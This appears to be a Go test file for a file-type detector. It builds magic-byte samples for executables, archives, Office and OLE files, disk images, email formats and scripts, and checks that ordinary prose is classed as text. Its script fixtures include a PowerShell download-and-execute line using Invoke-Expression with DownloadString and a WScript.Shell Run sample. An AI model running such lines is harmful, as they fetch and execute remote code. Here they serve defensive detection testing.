package filetype

import (
	"bytes"
	"encoding/binary"
	"strings"
	"testing"
	"unicode/utf16"
)

// at builds data with signs at places; the rest is NUL.
func at(size int, signs ...any) string {
	b := make([]byte, size)
	for i := 0; i < len(signs); i += 2 {
		copy(b[signs[i].(int):], signs[i+1].(string))
	}
	return string(b)
}

// zipOf builds local headers and a directory of stored, empty members.
func zipOf(names ...string) string {
	var b, dir bytes.Buffer
	for _, n := range names {
		h := make([]byte, 30)
		copy(h, "PK\x03\x04")
		binary.LittleEndian.PutUint16(h[26:], uint16(len(n)))
		c := make([]byte, 46)
		copy(c, "PK\x01\x02")
		binary.LittleEndian.PutUint16(c[28:], uint16(len(n)))
		b.Write(h)
		b.WriteString(n)
		dir.Write(c)
		dir.WriteString(n)
	}
	return b.String() + dir.String() + at(22, 0, "PK\x05\x06")
}

// odfOf is a zip whose first member is the media type, unpacked.
func odfOf(kind string) string {
	h := []byte(at(30, 0, "PK\x03\x04"))
	binary.LittleEndian.PutUint16(h[26:], 8)
	return string(h) + "mimetype" + kind + zipOf("content.xml")
}

// oleOf builds a compound file with a directory of one sector.
func oleOf(clsid string, names ...string) string {
	b := []byte(at(512+512, 0, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"))
	binary.LittleEndian.PutUint16(b[30:], 9)
	for i, n := range append([]string{"Root Entry"}, names...) {
		e := b[512+128*i:]
		for k, u := range utf16.Encode([]rune(n)) {
			binary.LittleEndian.PutUint16(e[2*k:], u)
		}
		binary.LittleEndian.PutUint16(e[64:], uint16(2*len(n)+2))
		e[66] = 2
		if i == 0 {
			e[66] = 5
			copy(e[80:], clsid)
		}
	}
	return string(b)
}

func utf16le(s string) string {
	b := []byte("\xff\xfe")
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return string(b)
}

func peOf() string { return at(256, 0, "MZ", 60, "\x80", 128, "PE\x00\x00") }

func kinds() map[string][]string {
	guid := "\x10\x0c\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"
	return map[string][]string{
		"pe": {peOf()}, "dos": {at(100, 0, "MZ\x90")}, "elf": {"\x7fELF\x02\x01\x01"},
		"macho": {"\xcf\xfa\xed\xfe\x07\x00\x00\x01", "\xca\xfe\xba\xbe\x00\x00\x00\x02"}, "class": {"\xca\xfe\xba\xbe\x00\x00\x00\x34"},
		"lnk": {"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0"}, "chm": {"ITSF\x03\x00\x00\x00"}, "hlp": {"?_\x03\x00abcd"},
		"one": {"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3"}, "access": {"\x00\x01\x00\x00Standard ACE DB\x00"},
		"iso": {at(40000, 32769, "CD001")}, "udf": {at(40000, 32769, "BEA01")}, "vhd": {at(2048, 1536, "conectix"), at(600, 0, "conectix\x00")},
		"vhdx": {"vhdxfile\x00"}, "img": {at(1024, 0, "\xeb\x3c\x90MSDOS5.0\x00\x02", 54, "FAT16", 510, "\x55\xaa"), at(1024, 512, "EFI PART"),
			at(512, 446, "\x80\x00\x00\x00\x07\x00\x00\x00\x01\x00\x00\x00\xff", 510, "\x55\xaa")},
		"dmg": {at(2048, 1536, "koly\x00\x00\x00\x04")}, "wim": {"MSWIM\x00\x00\x00"}, "vmdk": {"KDMV\x01"},
		"zip": {zipOf("a.txt", "b.pdf"), at(22, 0, "PK\x05\x06"), zipOf("word/readme.txt")}, "docx": {zipOf("[Content_Types].xml", "word/document.xml")},
		"docm": {zipOf("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")}, "xlsx": {zipOf("[Content_Types].xml", "xl/workbook.xml")},
		"xlsm": {zipOf("[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin")}, "xlsb": {zipOf("[Content_Types].xml", "xl/workbook.bin")},
		"pptx": {zipOf("[Content_Types].xml", "ppt/presentation.xml")}, "pptm": {zipOf("ppt/vbaProject.bin")},
		"jar": {zipOf("META-INF/MANIFEST.MF", "A.class")}, "apk": {zipOf("AndroidManifest.xml", "classes.dex")}, "appx": {zipOf("AppxManifest.xml")}, "xpi": {zipOf("install.rdf")},
		"odt": {odfOf("application/vnd.oasis.opendocument.text")}, "ods": {odfOf("application/vnd.oasis.opendocument.spreadsheet")}, "epub": {odfOf("application/epub+zip")},
		"msi": {oleOf("\x84" + guid)}, "msp": {oleOf("\x86" + guid)}, "doc": {oleOf("", "WordDocument")}, "xls": {oleOf("", "Workbook"), oleOf("", "Book")},
		"ppt": {oleOf("", "PowerPoint Document")}, "msg": {oleOf("", "__properties_version1.0")}, "office-encrypted": {oleOf("", "EncryptionInfo", "EncryptedPackage")}, "ole": {oleOf("", "Other")},
		"pdf": {"%PDF-1.7\n", strings.Repeat("\x00", 1000) + "%PDF-1.4"}, "rtf": {"{\\rtf1 a}", "{\\rt a}"},
		"rar4": {"Rar!\x1a\x07\x00"}, "rar5": {"Rar!\x1a\x07\x01\x00"}, "7z": {"7z\xbc\xaf\x27\x1c"}, "gz": {"\x1f\x8b\x08"}, "bz2": {"BZh91AY&SY"}, "xz": {"\xfd7zXZ\x00"},
		"zst": {"(\xb5\x2f\xfd", "\x5a\x2a\x4d\x18\x00"}, "lzma": {"]\x00\x00\x80\x00" + strings.Repeat("\xff", 8)}, "tar": {at(512, 0, "a", 257, "ustar")},
		"cab": {"MSCF\x00\x00\x00\x00"}, "diagcab": {"MSCF" + at(60, 20, "x.diagcfg")}, "cpio": {"070701" + strings.Repeat("0", 104)}, "ar": {"!<arch>\nx.o/"}, "deb": {"!<arch>\ndebian-binary"},
		"rpm": {"\xed\xab\xee\xdb"}, "arj": {"\x60\xea\x28\x00\x22\x0b\x01\x00\x10\x00\x02\x00"}, "ace": {at(60, 7, "**ACE**")}, "lha": {at(40, 0, "\x20\x11-lh5-")}, "zoo": {at(40, 0, "ZOO 2.10", 20, "\xdc\xa7\xc4\xfd")}, "xar": {"xar!\x00\x1c"},
		"html": {"<html>", " \r\n<!-- a --><!DOCTYPE HTML><p>", "\xef\xbb\xbf<script>", utf16le("<html><body>"), "<div>a</div>", "x <script>a</script>"},
		"svg":  {"<svg xmlns='a'>", "<?xml version='1.0'?>\n<!DOCTYPE svg PUBLIC>\n<svg>", "<?xml?><svg/>"}, "hta": {"<html><head><HTA:APPLICATION id=a>"},
		"mht": {"From: <Saved by Blink>\r\nSubject: a\r\nMIME-Version: 1.0\r\n\r\n", "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=a\r\n\r\n"},
		"eml": {"Received: a\r\nFrom: b\r\nTo: c\r\nSubject: d\r\n\r\n"}, "mbox": {"From a@b Mon\nFrom: a\nDate: b\nMessage-ID: c\n\n"}, "ics": {"BEGIN:VCALENDAR\r\n"}, "vcf": {"BEGIN:VCARD\r\n"},
		"tnef": {"\x78\x9f\x3e\x22\x00"}, "pgp": {"-----BEGIN PGP MESSAGE-----\n"}, "p7m": {"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03\xa0\x80\x30\x80\x02\x01\x00\x31"},
		"p7s": {"\x30\x82\x10\x00\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0\x80\x30\x80\x02\x01\x01"},
		"url": {"[InternetShortcut]\r\nURL=file://a"}, "scf": {"[Shell]\r\nCommand=2\r\nIconFile=\\\\a\\b"}, "inf": {"[Version]\r\nSignature=\"$CHICAGO$\""}, "theme": {"[Theme]\r\n"}, "desktop": {"[Desktop Entry]\nExec=a"},
		"reg":        {"Windows Registry Editor Version 5.00\r\n", utf16le("Windows Registry Editor Version 5.00\r\n"), "REGEDIT4\r\n"},
		"library-ms": {"<?xml version=\"1.0\"?>\n<libraryDescription xmlns=\"a\">"}, "search-ms": {"<?xml?><persistedQuery version=\"1.0\">"},
		"settingcontent-ms": {"<?xml?><PCSettings>"}, "appref-ms": {utf16le("http://a.example/b.application#b.application, Culture=neutral, PublicKeyToken=0")}, "jnlp": {"<jnlp spec='1'>"}, "iqy": {"WEB\r\n1\r\nhttp://a"},
		"sh": {"#!/bin/sh\necho", "#! /usr/bin/env bash\n"}, "py": {"#!/usr/bin/env python3\n"}, "bat": {"@echo off\r\nstart a", "@ECHO OFF\nrem"}, "wsf": {"<job id='a'><script language='VBScript'>", "<?xml?>\n<package><job><script>"},
		"vbs": {"Dim a\r\nSet a = CreateObject(\"WScript.Shell\")\r\na.Run \"x\"\r\n"}, "vbe": {"#@~^AAAAAA==x"},
		"js":  {"var a = new ActiveXObject('WScript.Shell'); a.Run('x');", "function(){var s=WScript.CreateObject(\"a\");}"},
		"ps1": {"$c = New-Object Net.WebClient; Invoke-Expression $c.DownloadString('http://a')", "#Requires -Version 5\n"}, "php": {"<?php echo 1;"},
		"jpeg": {"\xff\xd8\xff\xe0\x00\x10JFIF"}, "png": {"\x89PNG\r\n\x1a\n"}, "gif": {"GIF89a"}, "mp4": {at(20, 3, "\x18ftypisom")}, "heic": {at(20, 3, "\x18ftypheic")},
		"txt": {"Hola, ¿qué tal?\r\n", "a"}, "xml": {"<?xml version='1.0'?><feedback>"},
	}
}

func TestDetect(t *testing.T) {
	for name, all := range kinds() {
		for i, data := range all {
			if got := Detect([]byte(data)); got.Name != name || got.Class == Unknown {
				t.Errorf("%s %d: %v", name, i, got)
			}
		}
	}
}

// People write about programs, send tables and excerpts: none of it is a
// script, a page or a program.
func TestDetectProse(t *testing.T) {
	for _, s := range []string{
		"Hola Ana:\r\n\r\nEn el script uso CreateObject(\"Excel.Application\") y luego lo cierro, como hablamos ayer por teléfono con la gente de soporte.\r\n",
		"Please do not run Invoke-Expression on things you download. The line with DownloadString is what we saw in the log of the proxy last week, so be careful.\r\n",
		"function add(a, b) {\n  return a + b;\n}\n\nmodule.exports = { add };\n",
		"package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"a\") }\n",
		"import os\nprint(os.environ)\n", "SELECT * FROM t WHERE a = 1;\n", "nombre;edad;ciudad\r\nAna;30;Cádiz\r\n\"Luis\";41;\"León\"\r\n",
		"MZ es la abreviatura de una marca\r\n", "PK es el nombre de la clave primaria\n", "BM 2024 balance\n", "ID3 nota\n", "II Jornadas de Sanidad\n", "From the start we said no: it is late\n",
		"%PDF files were mentioned", "Nota: el formato se reconoce por %PDF- al principio del fichero\n", "RIFF a\n", "Re: asunto\nsin más\n",
		"[Section]\nkey=value\n", "1. Primero\n2. Segundo\n", "a < b and c > d\n", "Estimado <nombre>:\n", "0707010101 es mi teléfono, llámame\n", "# Título\n\nTexto con `código`.\n",
		"#hashtag /b\n", "$ cd /tmp\n$ ls\n", "Culpa de dim 3 = 4\n", "From: yo\nhola\n", "{\"a\":1}\n", "{\\tt a}", "%!", "@echo\n", "L a ver", "7z se usa para comprimir",
	} {
		if got := Detect([]byte(s)); got.Class != Text {
			t.Errorf("%q: %v", s, got)
		}
	}
}

func TestDetectShort(t *testing.T) {
	if got := Detect(nil); got != (Type{}) {
		t.Errorf("nothing: %v", got)
	}
	if got := Detect([]byte{0, 7, 9, 0xfe, 1, 2, 3}); got.Class != Unknown {
		t.Errorf("junk: %v", got)
	}
}

func TestDetectAllocations(t *testing.T) {
	for _, name := range []string{"pdf", "jpeg", "png", "zip", "docx", "doc", "txt", "html", "pe"} {
		data := []byte(kinds()[name][0])
		if n := testing.AllocsPerRun(100, func() { Detect(data) }); n > 0 {
			t.Errorf("%s: %v allocations", name, n)
		}
	}
}

func FuzzDetect(f *testing.F) {
	for _, all := range kinds() {
		f.Add([]byte(all[0]))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		before := bytes.Clone(data)
		got := Detect(data)
		if !bytes.Equal(before, data) {
			t.Fatal("the data were changed")
		}
		if len(got.Name) > longest || got.Name != strings.ToLower(got.Name) || got.Name == "" && got.Class != Unknown {
			t.Fatalf("%+v", got)
		}
	})
}

func BenchmarkDetect(b *testing.B) {
	for _, name := range []string{"txt", "html", "docx", "pdf"} {
		data := []byte(kinds()[name][0])
		if name == "txt" {
			data = []byte(strings.Repeat("Una línea de texto de lo más corriente.\r\n", 100))
		}
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Detect(data)
			}
		})
	}
}
